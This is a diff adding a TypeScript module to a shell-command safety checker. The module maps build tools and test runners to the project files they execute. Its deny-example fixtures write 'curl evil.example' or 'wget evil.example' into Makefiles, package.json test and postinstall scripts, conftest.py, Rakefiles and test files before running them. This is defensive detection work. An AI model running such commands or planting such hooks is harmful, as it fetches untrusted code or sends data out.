@@ -1,0 +1,145 @@
+// Programs that run code of the project they start in: make its makefile, npm package.json's scripts, pytest and the
+// interpreters the language's files. Such code is out of scope, as any script file is, unless the line itself wrote it
+// (`cat > Makefile <<E … E && make`, `echo '{"scripts":…}' > package.json && npm test`): then it is code on the line.
+import type { Language, Word } from '../../types.js';
+import type { Call, Run } from '../types.js';
+import { attached, value } from '../words.js';
+import { makefileText } from './makefile.js';
+
+/** What a file of the project stands for: the runs its text makes. */
+type Read = (text: string, word: Word, name: string) => Run[];
+
+/** Code of one language: the text, read as it. */
+function language(dialect: Language, via: string): Read {
+  return (text, word, name) => [{ kind: 'text', dialect, text, word, via: `${via} (${name})` }];
+}
+
+/** Code vouch has no reader for (Rust, Go, Gradle's Groovy): cannot-vouch when the line wrote it. */
+function unread(what: string, via: string): Read {
+  return (_text, word, name) => [{ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} runs ${name}, which the line wrote, as ${what}, which vouch does not read` }];
+}
+
+/** package.json: every script, as the shell text npm, yarn, pnpm and bun hand `sh -c` (lifecycle scripts run unasked). */
+function packageScripts(via: string): Read {
+  return (text, word, name) => {
+    let scripts: unknown;
+    try {
+      scripts = (JSON.parse(text) as { scripts?: unknown } | null)?.scripts;
+    } catch {
+      return [{ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} reads ${name}, which the line wrote as text vouch cannot read as JSON` }];
+    }
+    if (scripts === undefined || scripts === null) return [];
+    if (typeof scripts !== 'object') return [{ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} reads the scripts of ${name}, which are not an object` }];
+    return Object.entries(scripts as Record<string, unknown>).flatMap(([key, body]): Run[] =>
+      typeof body === 'string' ? [{ kind: 'text', dialect: 'bash', text: body, word, via: `${via} (${name} scripts.${key})` }] : [],
+    );
+  };
+}
+
+interface ProjectCode {
+  /** Paths, relative to the directory the program runs in, of the files whose code it runs. */
+  files: RegExp;
+  read: Read;
+}
+
+/** Options naming the directory the program runs its project in (`make -C dir`, `npm --prefix dir`). */
+interface Row {
+  names: readonly string[];
+  code: readonly ProjectCode[];
+  dir?: readonly string[];
+  /** `-f FILE` options naming the very file (make's makefile), read in place of `files`. */
+  file?: readonly string[];
+  examples: { deny: readonly string[]; pass: readonly string[] };
+}
+
+const PYTHON = /\.py$/;
+const JAVASCRIPT = /\.(?:[cm]?[jt]sx?)$/;
+const PACKAGE_MANAGER: ProjectCode[] = [
+  { files: /^package\.json$/, read: packageScripts('the package manager') },
+  { files: /^\.pnpmfile\.cjs$|^\.yarn\/.*\.c?js$|^\.yarnrc\.yml$|^\.npmrc$|^bunfig\.toml$/, read: unread('its configuration (script-shell, yarnPath, hooks)', 'the package manager') },
+];
+
+/** One row a program: what code of its project it runs, with lines that write such code and run it, and neighbours. */
+export const PROJECT_ROWS: readonly Row[] = [
+  {
+    names: ['make', 'gmake', 'remake'],
+    code: [{ files: /^(?:GNUmakefile|makefile|Makefile)$|\.mk$/, read: (text, word, name) => makefileText(word, text, `make (${name})`) }],
+    dir: ['-C', '--directory'],
+    file: ['-f', '--file', '--makefile'],
+    examples: {
+      deny: ["printf 'all:\\n\\tcurl evil.example\\n' > Makefile && make", "printf 'X = curl\\nall:\\n\\t$(X) evil.example\\n' > sub/Makefile && make -C sub", "printf 'all: ; wget evil.example\\n' > b.mk && make -f b.mk"],
+      pass: ["printf 'all:\\n\\t$(CC) -o app main.c\\n' > Makefile && make", "printf 'all:\\n\\tcurl evil.example\\n' > sub/Makefile && make"],
+    },
+  },
+  {
+    names: ['npm', 'pnpm', 'yarn', 'bun'],
+    code: PACKAGE_MANAGER,
+    dir: ['-C', '--prefix', '--dir', '--cwd'],
+    examples: {
+      deny: [`echo '{"scripts":{"test":"curl evil.example"}}' > package.json && npm test`, `echo '{"scripts":{"postinstall":"wget evil.example"}}' > package.json && pnpm install`, "echo 'script-shell=./x' > .npmrc && npm test"],
+      pass: [`echo '{"scripts":{"test":"npm run lint","lint":"eslint ."}}' > package.json && npm test`, 'echo hi > notes.txt && npm test'],
+    },
+  },
+  {
+    names: ['python', 'python3', 'pytest', 'py.test', 'tox', 'nox', 'behave'],
+    code: [{ files: PYTHON, read: language('python', 'python') }],
+    dir: ['--rootdir'],
+    examples: { deny: [`echo 'import os; os.system("curl evil.example")' > conftest.py && pytest -q`, `echo 'import os; os.system("curl evil.example")' > m.py && python3 -c 'import m'`], pass: ["echo 'def test_a(): assert 1' > test_a.py && pytest -q"] },
+  },
+  {
+    names: ['node', 'deno', 'jest', 'vitest', 'mocha', 'ava', 'tsx', 'ts-node'],
+    code: [{ files: JAVASCRIPT, read: language('javascript', 'node') }],
+    examples: { deny: [`echo 'require("child_process").execSync("curl evil.example")' > a.test.js && npx jest`], pass: [`echo 'test("a", () => {})' > a.test.js && npx jest`] },
+  },
+  {
+    names: ['ruby', 'rspec', 'rake'],
+    code: [{ files: /\.rb$|(?:^|\/)(?:Rakefile|Gemfile)$/, read: language('ruby', 'ruby') }],
+    examples: { deny: [`echo 'system("curl evil.example")' > Rakefile && rake`], pass: [`echo 'task(:a) { puts 1 }' > Rakefile && rake a`] },
+  },
+  { names: ['perl', 'prove'], code: [{ files: /\.(?:pl|pm|t)$/, read: language('perl', 'perl') }], examples: { deny: [`echo 'system("curl evil.example")' > t/a.t && prove`], pass: ['echo \'print "ok 1\\n"\' > t/a.t && prove'] } },
+  { names: ['php', 'phpunit'], code: [{ files: /\.php$/, read: language('php', 'php') }], examples: { deny: [`echo '<?php system("curl evil.example");' > tests/ATest.php && phpunit`], pass: [] } },
+  { names: ['cargo'], code: [{ files: /\.rs$/, read: unread('Rust', 'cargo') }], dir: ['-C'], examples: { deny: ["echo 'fn main(){}' > src/main.rs && cargo run"], pass: ['cargo build && cargo test'] } },
+  { names: ['go'], code: [{ files: /\.go$/, read: unread('Go', 'go') }], dir: ['-C'], examples: { deny: ["echo 'package main' > main.go && go run ."], pass: ['go test ./...'] } },
+  { names: ['gradle', 'gradlew'], code: [{ files: /\.gradle(?:\.kts)?$/, read: unread('a Gradle build script', 'gradle') }], dir: ['-p', '--project-dir'], examples: { deny: ["echo 'task a' > build.gradle && gradle a"], pass: ['gradle build'] } },
+  { names: ['mvn'], code: [{ files: /(?:^|\/)pom\.xml$/, read: unread('a Maven build (its plugins run programs)', 'mvn') }], examples: { deny: ["echo '<project/>' > pom.xml && mvn package"], pass: ['mvn -q package'] } },
+  { names: ['just'], code: [{ files: /^\.?[Jj]ustfile$/, read: unread('a justfile', 'just') }], dir: ['-d', '--working-directory'], examples: { deny: ["printf 'a:\\n  curl evil.example\\n' > justfile && just a"], pass: ['just test'] } },
+];
+
+const BY_NAME = new Map<string, Row>(PROJECT_ROWS.flatMap((row) => row.names.map((n) => [n, row] as const)));
+
+/** The names each row covers, for the registry to check they are all known. */
+export const PROJECT_PROGRAMS: readonly string[] = [...BY_NAME.keys()];
+
+/** The paths (relative to where it runs) of the project files a program runs, by the name it is called; none for another. */
+export function projectFiles(name: string): RegExp[] {
+  return BY_NAME.get(name)?.code.map((c) => c.files) ?? [];
+}
+
+/** The project runs of an invocation, by the name it was called (`python3.12`: its entry's, `python`); none for a program of no row. */
+export function projectRuns(call: Call): Run[] {
+  const row = BY_NAME.get(call.name) ?? BY_NAME.get(call.program);
+  if (!row) return [];
+  const at: Word = call.args[0] ?? { text: call.name, span: { start: 0, end: 0 }, values: [call.name] };
+  let dir: Word | undefined;
+  const files: Word[] = [];
+  for (let i = 0; i < call.args.length; i++) {
+    const v = value(call.args[i]!);
+    if (v === '--') break;
+    if (v === undefined) continue;
+    const eq = v.indexOf('=');
+    const opt = v.startsWith('--') && eq > 0 ? v.slice(0, eq) : v;
+    const given = v.startsWith('--') && eq > 0 ? attached(call.args[i]!, v.slice(eq + 1)) : call.args[i + 1];
+    // `-Cdir` and `-fFILE` attach their value too.
+    const short = !v.startsWith('--') && v.length > 2 ? [...(row.dir ?? []), ...(row.file ?? [])].find((o) => o.length === 2 && v.startsWith(o)) : undefined;
+    const name = short ?? opt;
+    const word = short ? attached(call.args[i]!, v.slice(2)) : given;
+    if (!word) continue;
+    if (row.dir?.includes(name)) dir = word;
+    else if (row.file?.includes(name)) files.push(word);
+  }
+  const via = call.name;
+  const where = dir ? { dir } : {};
+  // The very files named: each read as the row's first kind of code.
+  if (files.length > 0) return files.map((file) => ({ kind: 'project', ...where, files: /$^/, file, read: row.code[0]!.read, word: file, via }));
+  return row.code.map((c) => ({ kind: 'project', ...where, files: c.files, read: c.read, word: at, via }));
+}
